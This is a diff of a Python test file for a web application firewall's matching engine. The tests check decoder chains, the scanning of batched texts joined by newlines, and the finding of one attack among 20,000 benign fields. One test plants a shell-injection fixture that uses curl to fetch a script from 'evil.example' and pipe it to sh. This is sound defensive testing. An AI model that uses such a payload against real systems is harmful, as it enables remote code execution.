@@ -412,9 +412,11 @@ def test_a_decoder_woken_by_another_is_still_applied(make_sig: SigFactory) -> No
 
 
 def test_reduced_chains_give_the_candidates_of_the_full_chains(bundled_signatures: tuple[Signature, ...]) -> None:
-    """For every field, the chains reduced to its acting decoders (and lower case) must find the
-    candidates the full chains find."""
-    from firewall.engine.matcher import _applicable, _chain_hits, _FieldTexts
+    """For every field, the chains reduced to its acting decoders (and lower case) must find every
+    candidate the full chains find, each signature looking at its own chain's output."""
+    from firewall.engine.literals import fold
+    from firewall.engine.matcher import _applicable
+    from firewall.engine.transforms import apply_chain
 
     rules = compile_signatures(bundled_signatures, paranoia=4)
     fragments = [
@@ -435,10 +437,9 @@ def test_reduced_chains_give_the_candidates_of_the_full_chains(bundled_signature
     for _ in range(400):
         text = "".join(rng.choice(fragments) for _ in range(rng.randint(1, 6)))
         full: set[int] = set(rules.always)
-        texts = _FieldTexts(text)
         for chain, members in rules.chain_members.items():
-            full |= _chain_hits(rules, texts, chain, {}) & members
-        assert field_candidates(rules, "value", text) == _applicable(rules, "value", full), text
+            full |= rules.literal_hits(fold(apply_chain(chain, text))) & members
+        assert set(_applicable(rules, "value", full)) <= set(field_candidates(rules, "value", text)), text
 
 
 def test_a_recurring_attack_is_reported_in_each_field_up_to_the_limit(make_sig: SigFactory) -> None:
@@ -446,3 +447,69 @@ def test_a_recurring_attack_is_reported_in_each_field_up_to_the_limit(make_sig: 
     fields = [(f"f{i}", "an attack") for i in range(5)] + [("g", "calm"), ("h", "calm")]
     findings = _scan([sig], fields)
     assert [hit.path for hit in findings.hits] == ["f0", "f1", "f2"][:MAX_PATHS_PER_SIGNATURE]
+
+
+def _examples(signatures: tuple[Signature, ...]) -> list[str]:
+    return sorted({text for s in signatures for text in (*s.match_examples, *s.no_match_examples) if text})
+
+
+def test_a_group_scanned_joined_gets_the_candidates_of_each_text(bundled_signatures: tuple[Signature, ...]) -> None:
+    """Texts whose acting decoders all act within one text are decoded and scanned joined by
+    newlines: each must get exactly the candidates it gets on its own. Checked on every example of
+    every shipped signature, grouped by acting decoders, with benign variants beside them."""
+    from firewall.engine.batching import group_candidates
+    from firewall.engine.decoded import DecodedTexts, acting_decoders
+    from firewall.engine.matcher import _decoded_candidates
+
+    rules = compile_signatures(bundled_signatures, paranoia=4)
+    texts = _examples(bundled_signatures)
+    texts += [f"it's {i:05d}" for i in range(50)] + [f"Chloé O'Brien & co {i}" for i in range(50)]
+    groups: dict[frozenset[str], list[str]] = {}
+    for text in texts:
+        acting = acting_decoders(text)
+        if acting:
+            groups.setdefault(acting, []).append(text)
+    joined = 0
+    for acting, members in groups.items():
+        for start in range(0, len(members), 40):
+            chunk = members[start : start + 40]
+            batched = group_candidates(rules, chunk, acting)
+            if batched is None:
+                continue
+            joined += len(chunk)
+            for text, candidates in zip(chunk, batched, strict=True):
+                assert candidates == _decoded_candidates(rules, DecodedTexts(text), acting), (text, acting)
+    assert joined >= 100  # the joined path was really taken
+
+
+@pytest.mark.parametrize(
+    ("texts", "why"),
+    [
+        (["a%0ab", "c%0Ad"], "percent-decoding yields a newline, which would split a text in two"),
+        (["x&#10;y", "x&#x0a;y"], "an HTML reference yields a newline"),
+        (["%26lt%3Bscript", "%26gt%3B"], "percent-decoding wakes the HTML decoder"),
+        (["a${x", "b$:-}c"], "${...:-} could span two texts"),
+        (["it\\'s", "c\\'d"], "escapes take the next character, a separator included"),
+        (["one"], "a single text gains nothing from joining"),
+    ],
+)
+def test_groups_that_cannot_be_joined_are_examined_text_by_text(
+    bundled_signatures: tuple[Signature, ...], texts: list[str], why: str
+) -> None:
+    from firewall.engine.batching import group_candidates
+    from firewall.engine.decoded import acting_decoders
+
+    rules = compile_signatures(bundled_signatures, paranoia=4)
+    acting = acting_decoders(texts[0])
+    assert all(acting_decoders(text) == acting for text in texts)
+    assert group_candidates(rules, texts, acting) is None, why
+
+
+def test_an_attack_among_thousands_of_decoded_fields_is_found(bundled_signatures: tuple[Signature, ...]) -> None:
+    """20,000 texts with an apostrophe are scanned joined; the one attack among them still fires."""
+    rules = compile_signatures(bundled_signatures, paranoia=1)
+    fields: list[tuple[str, str | bytes]] = [(f"items[{i}]", f"it's {i:05d}") for i in range(20_000)]
+    fields[12_345] = ("items[12345]", "x';curl${IFS}http://evil.example/x|sh;'")
+    findings = inspect_fields(rules, fields)
+    assert findings.error is None
+    assert {hit.path for hit in findings.hits} == {"items[12345]"}
